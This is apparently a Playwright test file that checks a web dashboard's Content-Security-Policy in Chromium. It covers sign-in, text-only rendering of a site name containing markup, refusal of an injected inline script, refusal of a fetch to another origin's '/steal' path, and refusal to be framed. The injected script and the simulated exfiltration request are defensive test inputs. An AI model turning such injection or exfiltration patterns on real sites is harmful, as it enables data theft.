/**
 * The dashboard in real Chromium (Debian's /usr/bin/chromium, driven by playwright-core)
 * under its Content-Security-Policy: it still signs in and lists sites with no violation
 * reported, while an injected inline script, a request to another origin and a page on
 * another origin that frames it are all refused.
 */
import type { Browser, Page } from "playwright-core";
import { launchChromium } from "../helpers/browser";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { client, serveOnLoopback, type LoopbackServer } from "../helpers/http";
import { startStack, type Stack } from "../helpers/stack";

// The callbacks passed to page.evaluate run in the page; these are the page globals they use.
declare const window: Record<string, unknown>;
declare function getComputedStyle(element: unknown): { display: string };
declare const sessionStorage: { length: number };
declare const localStorage: { length: number };
declare const document: {
  createElement(tag: string): { textContent: string };
  querySelector(selector: string): unknown;
  body: { append(node: unknown): void };
};

let stack: Stack;
let browser: Browser;
/** Another origin: it frames the dashboard, and counts what reaches it. */
let other: LoopbackServer;
let otherUrl: string;
const otherHits: string[] = [];

beforeAll(async () => {
  stack = await startStack();
  const created = await client(stack.url, stack.adminKey)("POST", "/api/v1/sites", {
    name: "Shop <b>x</b>",
    domain: "csp.example",
  });
  if (created.status !== 201) throw new Error(`site create: ${created.status} ${created.text}`);
  other = await serveOnLoopback((req, res) => {
    otherHits.push(req.url ?? "");
    res
      .writeHead(200, { "content-type": "text/html; charset=utf-8" })
      .end(`<!doctype html><title>framer</title><iframe id="victim" src="${stack.url}/dashboard/"></iframe>`);
  });
  otherUrl = other.url;
  browser = await launchChromium();
}, 60_000);

afterAll(async () => {
  await browser?.close();
  await other?.close();
  await stack?.stop();
});

/**
 * A fresh page, with every console error (Chromium reports CSP refusals there) and page error,
 * and every URL answered 400 or above (the console names no URL for those).
 */
async function open(): Promise<{ page: Page; errors: string[]; failed: string[] }> {
  const page = await (await browser.newContext()).newPage();
  const errors: string[] = [];
  const failed: string[] = [];
  page.on("console", (message) => {
    if (message.type() === "error" && !message.text().startsWith("Failed to load resource:")) errors.push(message.text());
  });
  page.on("pageerror", (error) => errors.push(error.message));
  page.on("response", (response) => {
    if (response.status() >= 400) failed.push(response.url());
  });
  return { page, errors, failed };
}

describe("the dashboard under its CSP", () => {
  it("signs in and lists the sites, with no violation and no error, keeping the key out of localStorage", async () => {
    const { page, errors, failed } = await open();
    const response = await page.goto(`${stack.url}/dashboard/`);
    expect(response?.headers()["content-security-policy"]).toContain("script-src 'self'");
    await page.getByLabel("API key").fill(stack.adminKey!);
    await page.getByRole("button", { name: "Sign in", exact: true }).click();
    await page.getByRole("heading", { name: "Sites" }).waitFor();
    // The stylesheet applied: the header is a flex row (a browser's default is block).
    expect(await page.evaluate(() => getComputedStyle(document.querySelector("header")).display)).toBe("flex");
    // The site's name is text, never markup.
    await page.locator(".site-list li").first().waitFor();
    expect(await page.locator(".site-list li").allTextContents()).toEqual(["Shop <b>x</b> csp.example"]);
    expect(await page.evaluate(() => [localStorage.length, sessionStorage.length])).toEqual([0, 1]);
    expect(errors).toEqual([]);
    // Chromium asks the origin for a favicon on its own; nothing the page loads fails.
    expect(failed.filter((url) => url !== `${stack.url}/favicon.ico`)).toEqual([]);
    await page.context().close();
  });

  it("refuses an injected inline script and a request to another origin", async () => {
    const { page, errors } = await open();
    await page.goto(`${stack.url}/dashboard/sites/x`);
    await page.getByLabel("API key").waitFor();
    const ran = await page.evaluate(() => {
      const script = document.createElement("script");
      script.textContent = "window.pwned = true";
      document.body.append(script);
      return window.pwned === true;
    });
    expect(ran).toBe(false);
    const exfiltrated = await page.evaluate(
      (url) =>
        fetch(`${url}/steal?k=1`).then(
          () => "sent",
          () => "refused",
        ),
      otherUrl,
    );
    expect(exfiltrated).toBe("refused");
    expect(otherHits.filter((hit) => hit.startsWith("/steal"))).toEqual([]);
    expect(errors.map((e) => e.replace(/ Either .*| The action .*/s, ""))).toEqual([
      "Executing inline script violates the following Content Security Policy directive 'script-src 'self''.",
      `Connecting to '${otherUrl}/steal?k=1' violates the following Content Security Policy directive: "connect-src 'self'".`,
      `Fetch API cannot load ${otherUrl}/steal?k=1. Refused to connect because it violates the document's Content Security Policy.`,
    ]);
    await page.context().close();
  });

  it("will not be framed by another origin", async () => {
    const { page } = await open();
    await page.goto(`${otherUrl}/framer`);
    const frame = await (await page.waitForSelector("#victim")).contentFrame();
    // A refused frame shows Chromium's error page, never the dashboard's sign-in form.
    await expect.poll(() => frame!.url()).toMatch(/^chrome-error:/);
    expect(await frame!.$("#api-key")).toBeNull();
    await page.context().close();
  });
});
